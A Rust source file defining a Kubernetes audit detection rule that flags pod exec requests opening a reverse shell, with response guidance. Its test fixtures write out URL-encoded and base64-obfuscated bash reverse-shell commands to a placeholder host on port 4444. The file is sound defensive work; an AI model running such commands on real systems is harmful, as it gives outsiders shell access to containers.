//! A shell for somebody outside.

use crate::audit::prelude::*;

detection! {
    /// Command opens a reverse shell
    ///
    /// The container calls out and hands over a shell, past every rule about what may call in.
    ///
    /// **Benign:** None known.
    ///
    /// **Respond:** Cut the pod off (NetworkPolicy), keep it for forensics, replace its credentials.
    "AUD-061" {
        severity: Critical,
        attack: Execution "T1059",
        rows: ["61"],
        needs: [RequestUri],
        on: [(CREATE.or(GET), EXEC)],
        when: Permitted,
        fires: [
            r"{verb: create, requestURI: '/x?command=bash&command=-c&command=bash+-i+%3E%26+%2Fdev%2Ftcp%2F203.0.113.9%2F4444+0%3E%261', objectRef: {resource: pods, subresource: exec, namespace: shop, name: web-0}}",
            r"# base64 of the same
{verb: create, requestURI: '/x?command=sh&command=-c&command=echo+YmFzaCAtaSA%2BJiAvZGV2L3RjcC8yMDMuMC4xMTMuOS80NDQ0IDA%2BJjE%3D%7Cbase64+-d%7Csh', objectRef: {resource: pods, subresource: exec, namespace: shop, name: web-0}}",
        ],
        quiet: [r"{verb: create, requestURI: '/x?command=bash&command=-c&command=date', objectRef: {resource: pods, subresource: exec, namespace: shop, name: web-0}}"],
        run: Call(run),
    }
}

fn run(call: &Call<'_, '_>, found: &mut Found) {
    let Some(line) = call.command() else { return };
    if let Some(mark) = Command::new(&line).reverse_shell() {
        found
            .say(format!(
                "opened a reverse shell ({mark}) from {}",
                call.what()
            ))
            .with("requestURI", line);
    }
}
